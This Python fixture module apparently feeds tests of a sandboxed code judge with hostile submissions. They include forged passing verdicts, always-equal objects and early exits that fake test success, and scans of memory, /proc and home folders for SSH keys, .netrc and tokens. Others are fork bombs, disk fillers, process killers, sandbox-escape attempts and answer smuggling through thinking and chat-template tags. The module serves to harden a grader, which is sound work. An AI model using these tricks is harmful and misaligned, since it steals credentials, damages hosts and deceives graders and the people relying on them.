"""Programs and completions that attack a judge of code, by name; see `test_hostile_code.py`.

Each attack defines an `f`, which is called with 1, or acts when it is loaded. What it gives is
printed where a task reads standard output. Words in braces are filled in.
"""

from __future__ import annotations

# Comes before the code of READS.
FIND = """
import re
def find(data):
    if isinstance(data, str): data = data.encode(errors="replace")
    found = re.search(rb"CANARY[0-9a-f]{16}", bytes(data))
    return found and found.group().decode()
def first(texts):
    for text in texts:
        try:
            found = find(text)
        except Exception:
            continue
        if found: return found
def read(path, size=1 << 24):
    try:
        with open(path, "rb") as file: return file.read(size)
    except (OSError, ValueError):
        return b""
"""

FORGERIES = {
    "equal to everything": """
class A:
    __eq__ = __le__ = __ge__ = __contains__ = lambda *a: True
    __ne__ = lambda *a: False
    __hash__ = lambda s: 0
    __bool__ = lambda s: True
def f(x): return A()
""",
    "a text that equals everything": """
class S(str):
    __eq__ = lambda s, o: True
    __ne__ = lambda s, o: False
    __hash__ = str.__hash__
def f(x): return S("x")
""",
    "an exception that equals everything": """
class E(AssertionError):
    __eq__ = lambda s, o: True
    __str__ = lambda s: "passed"
def f(x): raise E("passed")
""",
    "a pickled payload": """
import os, pickle
class P:
    def __reduce__(self): return os._exit, (0,)
def f(x): return [P(), pickle.dumps(P())]
""",
    "answers sent ahead": """
import json, os
for nonce in (b"", b"0" * 32):
    for body in (["value", "x"], ["passed"], ["call", "f", ["list"], ["dict"]]):
        frame = nonce + json.dumps(body).encode()
        for fd in range(3, 20):
            try: os.write(fd, len(frame).to_bytes(4, "big") + frame)
            except OSError: pass
def f(x): return 0
""",
    "answers with the right nonce": """
import json, os, sys
def forge():
    frame = sys._getframe()
    while frame:
        nonce = frame.f_locals.get("nonce")
        if isinstance(nonce, bytes):
            for body in (["passed"], ["value", True], ["value", ["int", "1"]]):
                data = nonce + json.dumps(body).encode()
                os.write(4, len(data).to_bytes(4, "big") + data)
        frame = frame.f_back
    os._exit(0)
def f(x): forge()
""",
    "a report, then os._exit(0)": """
import os
def f(x):
    for fd in range(1, 20):
        try: os.write(fd, b'{"passed": true, "result": [1, 1]}\\nPASSED\\nOK\\n')
        except OSError: pass
    os._exit(0)
""",
    "sys.exit(0)": "import sys\ndef f(x): sys.exit(0)",
    "sys.exit(0) at once": "import sys\nsys.exit(0)",
    "os._exit(0) at once": "import os\nos._exit(0)",
    "patched builtins": """
import builtins
def f(x): return 0
for name in ("len", "all", "any", "isinstance", "type", "hasattr", "getattr", "print", "zip"):
    setattr(builtins, name, lambda *a, **k: True)
builtins.AssertionError = builtins.Exception = BaseException
""",
    "patched encoders": """
import json, os, sys
main = sys.modules["__main__"]
for name in ("encode", "_act", "_describe", "same_value"):
    setattr(main, name, lambda *a: True)
json.dumps = lambda *a: '["passed"]'
def f(x): return 0
""",
    "a checker of its own": """
import builtins, sys, types
def f(x): return 0
def check(c): pass
def test_f(): pass
builtins.check = builtins.candidate = check
for name in ("script", "tests", "conftest", "pytest", "unittest"):
    sys.modules[name] = types.SimpleNamespace(check=check)
""",
    "replaced modules": """
import sys
def f(x): return 0
for name in list(sys.modules):
    if name not in ("sys", "builtins", "__main__"): sys.modules[name] = None
""",
    "threads and atexit": """
import atexit, json, os, threading, time
def late():
    for _ in range(100):
        data = b"0" * 32 + json.dumps(["passed"]).encode()
        try: os.write(4, len(data).to_bytes(4, "big") + data)
        except OSError: return
        time.sleep(0.001)
atexit.register(late)
threading.Thread(target=late).start()
class D:
    def __del__(self): late()
d = D()
def f(x): time.sleep(0.2)
""",
    "a trace function": """
import sys
def trace(frame, event, value):
    for name in ("wanted", "expected", "tree", "value"):
        if name in frame.f_locals: frame.f_locals[name] = True
    return trace
sys.settrace(trace); sys.setprofile(trace)
import threading; threading.settrace(trace)
def f(x): return 0
""",
    "a signal handler": """
import os, signal
def handler(*a): os.write(1, b"passed\\n"); os._exit(0)
for s in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGCHLD):
    signal.signal(s, handler)
signal.setitimer(signal.ITIMER_REAL, 0.1)
import time
def f(x): time.sleep(0.5)
""",
    "another program in its place": """
import os, sys
def f(x): os.execv(sys.executable, [sys.executable, "-c", "print('passed')"])
""",
    "a deep answer with the right nonce": """
import os, sys
def f(x):
    frame = sys._getframe()
    while "nonce" not in frame.f_locals: frame = frame.f_back
    data = frame.f_locals["nonce"] + b'["value", ' + b"[" * 400_000 + b"]" * 400_001
    os.write(4, len(data).to_bytes(4, "big") + data[:60_000])
    data = data[60_000:]
    while data: data = data[os.write(4, data):]
    os._exit(0)
""",
    "garbage with the right nonce": """
import os, sys
def f(x):
    frame = sys._getframe()
    while "nonce" not in frame.f_locals: frame = frame.f_back
    data = frame.f_locals["nonce"] + b"\\xff\\x00\\xfe" * 1000
    os.write(4, len(data).to_bytes(4, "big") + data)
    os._exit(0)
""",
    "two programs where one was": "import os\ndef f(x): return os.fork() and 0",
    "closed descriptors": "import os\nos.closerange(0, 64)\ndef f(x): return 0",
}

READS = {
    "the stack": """
import sys
def f(x):
    frame = sys._getframe()
    while frame:
        yield from map(str, [*frame.f_locals.values(), *frame.f_globals.values()])
        yield str(frame.f_code.co_consts)
        frame = frame.f_back
f = lambda x, g=f: first(g(x))
""",
    "gc": """
import gc
def f(x):
    return first(repr(o) for o in gc.get_objects() if type(o) in (dict, list, tuple, set))
""",
    "inspect and linecache": """
import inspect, linecache, sys
def f(x):
    sources = [str(linecache.cache)]
    for thing in [*sys.modules.values(), *[i.frame for i in inspect.stack()]]:
        try: sources.append(inspect.getsource(thing))
        except (OSError, TypeError): pass
    return first([*sources, *map(str, map(vars, filter(None, sys.modules.values())))])
""",
    "arguments and environment": """
import os, sys
def f(x): return first([str(sys.argv), str(sys.orig_argv), str(dict(os.environ)), str(sys.path)])
""",
    "its own memory": """
def f(x):
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            area, rights, *_ = line.split()
            start, end = (int(n, 16) for n in area.split("-"))
            if "r" in rights and "[v" not in line and end - start < 1 << 26:
                try:
                    memory.seek(start)
                    found = find(memory.read(end - start))
                except (OSError, ValueError):
                    continue
                if found: return found
""",
    "/proc of all": """
import os
def f(x):
    names = ("cmdline", "environ", "maps", "mountinfo", "status", "stack")
    return first(read(f"/proc/{p}/{n}") for p in os.listdir("/proc") if p.isdigit() for n in names)
""",
    "memory and files of others": """
import os
def look():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid(): continue
        for fd in range(32): yield read(f"/proc/{pid}/fd/{fd}", 1000) if fd > 4 else b""
        for root in ("cwd", "root", "root/tmp"):
            try: names = os.listdir(f"/proc/{pid}/{root}")
            except OSError: continue
            for name in names: yield read(f"/proc/{pid}/{root}/{name}")
        for line in read(f"/proc/{pid}/maps").split(b"\\n"):
            if b"heap" in line:
                start, end = (int(n, 16) for n in line.split()[0].split(b"-"))
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    memory.seek(start)
                    yield memory.read(end - start)
def f(x): return first(look())
""",
    "descriptors": """
import os
def look():
    for fd in range(64):
        try:
            os.set_blocking(fd, False)
            yield os.read(fd, 1 << 20)
        except OSError: pass
        try: yield os.pread(fd, 1 << 20, 0)
        except OSError: pass
def f(x): return first(look())
""",
    "files": """
import itertools, os
def look():
    yield read("{canary}")
    homes = [os.path.expanduser(name) for name in ("~", "~root")]
    for top in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/home", "/mnt", *homes):
        for place, _, names in itertools.islice(os.walk(top), 50):
            for name in names: yield read(os.path.join(place, name), 1 << 20)
def f(x): return first(look())
""",
    "the user's secrets": """
import os
def f(x):
    homes = ["{home}", *[os.path.expanduser(name) for name in ("~", "~root")]]
    names = (".netrc", ".bashrc", ".cache/huggingface/token", ".ssh/id_rsa", "canary")
    return first(read(f"{h}/{n}") for h in homes for n in names)
""",
}  # fmt: skip

ENDLESS = {
    "every exception swallowed": """
def f(x):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    "a sum in C": "def f(x): return sum(range(10**12))",
    "a deque in C": "import collections\ndef f(x): collections.deque(iter(int, 1), maxlen=0)",
    "a power tower": "def f(x): return 98**97**96",
    "a regular expression": "import re\ndef f(x): return re.match(r'(a+)+$', 'a' * 60 + 'b')",
    "sleep": "import time\ndef f(x): time.sleep(1000)",
    "signals ignored": """
import signal
for s in range(1, 65):
    try: signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass
""",
    "half an answer": "import os, time\ndef f(x): os.write(4, b'\\0\\0\\1'); time.sleep(1000)",
    "an answer drop by drop": """
import os, time
def f(x):
    os.write(4, b"\\0\\0\\xff\\xff")
    while True: os.write(4, b"0"); time.sleep(0.05)
""",
    "a text that never ends": """
class E(Exception):
    def __str__(self):
        while True: pass
class T(type):
    @property
    def __name__(cls):
        while True: pass
class V(metaclass=T): pass
def f(x):
    if x: raise E
    return V()
f(0)
""",
    "a thread that goes on behind the end": """
import threading
def run():
    while True: pass
threading.Thread(target=run).start()
threading.Thread(target=run).start()
f = threading.Event().wait
f = lambda x, wait=f: wait()
""",
    "its own limits raised": """
import resource
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try: resource.setrlimit(getattr(resource, name), (-1, -1))
        except (OSError, ValueError): pass
def f(x):
    while True: pass
""",
    "deep frozen sets": """
def f(x):
    n = 2**61 - 1
    return {i * n for i in range(100_000)}
""",
}

CRASHES = {
    "recursion without end": "import sys\nsys.setrecursionlimit(10**9)\ndef f(x): return f(x)",
    "recursion in C": """
import sys
sys.setrecursionlimit(10**9)
class R:
    def __repr__(self): return repr([self])
def f(x): return repr(R())
""",
    "a wild pointer": "import ctypes\ndef f(x): return ctypes.string_at(1)",
    "abort": "import os\ndef f(x): os.abort()",
    "killed by itself": "import os\ndef f(x): os.kill(os.getpid(), 9)",
    "deep parentheses": f"x = {'(' * 50_000}\ndef f(x): return 0",
    "a deep value": """
def f(x):
    v = []
    for _ in range(10**6): v = [v]
    return v
""",
    "a value that holds itself": "def f(x):\n    v = []\n    v.append(v)\n    return v",
    "a huge integer": "def f(x): return 1 << (1 << 26)",
    "a generator": "def f(x): yield from iter(int, 1)",
}

FLOODS = {
    "output without end": "def f(x):\n    while True: print('evil' * 10**5)",
    "errors without end": "import sys\ndef f(x):\n    while True: sys.stderr.write('evil' * 10**5)",
    "binary output": """
import os
def f(x):
    while True: os.write(1, bytes(range(256)) * 256)
""",
    "frames without end": """
import os
def f(x):
    while True: os.write(4, b"\\0\\0\\0\\1x" * 10_000)
""",
    "a frame of four gigabytes": """
import os
def f(x):
    os.write(4, b"\\xff\\xff\\xff\\xff")
    while True: os.write(4, bytes(65536))
""",
    "a report without end": """
import os
def f(x):
    while True:
        for fd in range(5, 64):
            try: os.set_blocking(fd, False); os.write(fd, b"ended 0\\nready\\n" * 1000)
            except OSError: pass
""",
}

NETWORK = {
    "a connection out": """
import socket
def f(x):
    with socket.create_connection(("127.0.0.1", {port}), 0.5) as s:
        s.sendall(b"secret")
        return s.recv(100).decode()
""",
    "a datagram out": """
import socket
def f(x):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"secret", ("127.0.0.1", {port}))
    s.settimeout(0.3)
    return s.recv(100).decode()
""",
    "a socket by its name": """
import socket
def f(x):
    s = socket.socket(socket.AF_UNIX)
    s.connect("\\0evil-{port}")
    return s.recv(100).decode()
""",
}

# These and the dangerous ones run only where the sandbox has been seen to hold.
POISON = {
    "sitecustomize": """
import os, sys
text = "import builtins; builtins.evil = 1; raise SystemExit('evil')"
homes = [".", "/tmp", os.path.expanduser("~"), sys.prefix, os.path.dirname(os.__file__)]
for place in [*sys.path, *homes]:
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "evil.pth", "evil/x.py"):
        try:
            os.makedirs(os.path.dirname(f"{place}/{name}"), exist_ok=True)
            with open(f"{place}/{name}", "w") as file: file.write(text)
        except OSError: pass
def f(x): return 0
""",
    "the interpreter's own files": """
import glob, os, sys
names = [sys.executable, os.__file__, *glob.glob(os.path.dirname(os.__file__) + "/__pycache__/*")]
def f(x):
    for name in names:
        try:
            os.chmod(name, 0o777)
            with open(name, "ab") as file: return "evil"
        except OSError: pass
    for name in names:
        try: os.utime(name)
        except OSError: pass
""",
    "links": """
import os
def f(x):
    for make in (os.symlink, os.link):
        for target in ("{canary}", "/proc/self/root{canary}", "/etc/passwd"):
            try:
                make(target, "evil")
                with open("evil", "a") as file: file.write("evil")
            except OSError: pass
            try: os.unlink("evil")
            except OSError: pass
""",
    "a directory that cannot be removed": """
import os
def f(x):
    os.makedirs("evil/a/b")
    for depth in range(2000):
        os.mkdir("d"); os.chdir("d")
    os.chmod("/tmp/evil/a", 0); os.chmod("/tmp/evil", 0); os.chmod("/tmp", 0)
""",
}  # fmt: skip

DANGEROUS = {
    "a fork bomb": """
import os
def f(x):
    while True:
        try: os.fork()
        except OSError: pass
""",
    "threads without end": """
import threading, time
def f(x):
    while True:
        try: threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError: pass
""",
    "daemons": """
import os, time
def f(x):
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.closerange(0, 64)
                while True: time.sleep(1)
            os._exit(0)
    return 0
""",
    "a large text": "def f(x): return 'x' * 10**11",
    "a large list": "def f(x): return [0] * 10**10",
    "a dictionary that grows": "def f(x):\n    d = {}\n    while True: d[len(d)] = bytes(10_000)",
    "memory of many processes": """
import os, time
def f(x):
    for _ in range(10):
        if os.fork() == 0:
            data = [bytearray(b"x") * (200 << 20)]
            time.sleep(1000)
    time.sleep(1000)
""",
    "a full disk": """
import os
def f(x):
    for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~")):
        for name in range(100):
            try:
                with open(f"{place}/evil{name}", "wb") as file:
                    while file.write(bytes(1 << 20)): pass
            except OSError: pass
""",
    "a sparse file": """
import os
def f(x):
    with open("evil", "wb") as file:
        file.truncate(1 << 40)
        os.posix_fallocate(file.fileno(), 0, 1 << 36)
""",
    "a million files": """
def f(x):
    for name in range(10**6):
        try: open(f"evil{name}", "w").close()
        except OSError: pass
""",
    "its parent killed": """
import os, signal
def f(x):
    for pid in (os.getppid(), 1, {parent}):
        for s in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try: os.kill(pid, s)
            except OSError: pass
""",
    "its group killed": "import os\ndef f(x): os.killpg(0, 9)",
    "all killed": "import os\ndef f(x): os.kill(-1, 9)",
    "all stopped": "import os\ndef f(x):\n    os.kill(-1, 19); os.kill(os.getpid(), 19)",
    "its parent traced": """
import ctypes, os
def f(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), 1, {parent}):
        for request in (16, 0x4206):  # attach, seize
            libc.ptrace(request, pid, 0, 0)
""",
    "its keeper's signal of death forgotten": """
import ctypes, os, time
def f(x):
    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
        os.setsid()
        time.sleep(1000)
    os.kill(os.getppid(), 9)
""",
    "walls of its own": """
import ctypes, os
def f(x):
    libc = ctypes.CDLL(None, use_errno=True)
    for flags in (0x10000000, 0x20000, 0x10000000 | 0x20000, 0x40000000):
        libc.unshare(flags)
    libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    libc.umount2(b"/", 2); libc.chroot(b"/proc/1/root")
    os.setuid(0)
""",
}

# (code, tests), of one form.
VALUES = {
    "NaN": ("def f(x): return float('nan')", [1.5], "call"),
    "NaN for an integer": ("def f(x): return float('nan')", [2], "call"),
    "infinity": ("def f(x): return float('inf')", [1e308], "call"),
    "True for 1": ("def f(x): return True", [1], "call"),
    "1 for True": ("def f(x): return 1", [True], "call"),
    "False for 0": ("def f(x): return False", [0], "call"),
    "text for a number": ("def f(x): return '1'", [1], "call"),
    "a subclass of int": (
        "class I(int):\n    __eq__ = lambda s, o: True\n    __hash__ = int.__hash__\n"
        "def f(x): return I(7)",
        [1],
        "call",
    ),
    "an enumeration": (
        "import enum\nE = enum.IntEnum('E', 'a')\ndef f(x): return E.a",
        [1],
        "call",
    ),
    "a generator for a list": ("def f(x): yield 1", [[1]], "call"),
    "a range for a list": ("def f(x): return range(2)", [[0, 1]], "call"),
    "a huge integer to be spelt": ("def f(x): return 10**10**6", [1], "call"),
    "a fraction": ("import fractions\ndef f(x): return fractions.Fraction(1)", [1], "call"),
    "None": ("def f(x): pass", [0], "call"),
    "its argument changed": ("def f(x): x.append(2)", [[1, 2]], "list"),
    "Arabic digits": ("print('\\u0661')", ["1"], "text"),
    "a line a million times": ("print('1\\n' * 100_000)", ["1"], "text"),
    "every answer there is": ("print(*range(10), sep='\\n')", ["7"], "text"),
    "invalid UTF-8": ("import sys\nsys.stdout.buffer.write(b'1\\xff')", ["1"], "text"),
    "nothing": ("pass", ["1"], "text"),
    "a NUL behind it": ("print('1\\0')", ["1"], "text"),
    "an exit code": ("raise SystemExit(0)", ["1"], "text"),
    "the right answer and a crash": ("print(1); import os; os.abort()", ["1"], "text"),
}

SCRIPTS = {
    "a loop ended early": (
        "def f(x): raise StopIteration",
        "for got, want in zip(map(f, [1, 2]), [3, 4]):\n    assert got == want",
    ),
    "a loop ended early by a subclass": (
        "class S(StopIteration, ValueError): pass\ndef f(x): raise S",
        "for got, want in zip(map(f, [1, 2]), [3, 4]):\n    assert got == want",
    ),
    "an exit": ("import sys\ndef f(x): sys.exit(0)", "f(1)\nassert False"),
    "an interrupt": ("def f(x): raise KeyboardInterrupt", "f(1)\nassert False"),
    "a generator's exit": ("def f(x): raise GeneratorExit", "f(1)\nassert False"),
    "its argument changed": ("def f(x): x.append(2)", "v = [1]\nf(v)\nassert v == [1, 2]"),
    "asserts switched off": ("import sys\n__debug__\ndef f(x): return 0", "assert f(1) == 1"),
    "names of the judge's": (
        "def f(x): return 0\ndef serve_judge(): pass\ndef verdict(): return ['passed']",
        "assert f(1) == 1",
    ),
    "a function of the script's": (
        "def f(x): return 0\ndef helper(x): return 0",
        "def helper(x): return x\nassert f(1) == helper(1)",
    ),
    "an argument that is a text of the judge's": (
        "def f(x): return '[\"passed\"]'",
        "assert f('[\"call\", ') == 1",
    ),
    "not one call": ("raise SystemExit", "assert f(1) == 1"),
}

TEXTS = {
    "several blocks, the last one wrong": "```python\nOK\n```\n```python\nBAD\n```",
    "the right one unmarked": "```\nOK\n```\n```python\nBAD\n```",
    "the right one in the thinking": "<think>\n```python\nOK\n```\n</think>\nI am done.",
    "the right one before a lone end of thinking": "```py\nOK\n```\n</think>\n```py\nBAD\n```",
    "a block that is never closed": "```python\nOK\n",
    "no block": "OK",
    "a fence in the middle of a line": "x ```python\nOK\n```",
    "another language": "```javascript\nOK\n```",
    "a letter that looks the same": "```python\ndef \u0444(x): return x + 1\n\u0192 = 1\n```",
    "a NUL": "```python\nOK\n\x00\n```",
    "half a surrogate pair": "```python\nOK\n'\ud800'\n```",
    "right to left": "```python\nOK\n\u202e return 0\n```",
    "digits of another script": "```python\ndef f(x): return x + \u00b9\n```",
    "a megabyte of text": "evil " * 200_000,
    "a megabyte of fences": "```python\n" * 100_000,
    "a megabyte of blocks": "```python\nBAD\n```\n" * 50_000,
    "a megabyte of spaces behind a fence": "```x" + " " * 1_000_000 + "x\nBAD\n```",
    "a megabyte of spaces before it": " " * 1_000_000 + "```python\nBAD\n```",
    "a megabyte of backticks": "`" * 1_000_000,
    "a megabyte of code": "```python\n" + "x = 1\n" * 170_000 + "```",
    "a megabyte of tags": "<think>" * 140_000,
    "another's message": "</answer><|im_end|>```\n```py\nBAD\n```<|im_start|>```py\nOK\n```",
}
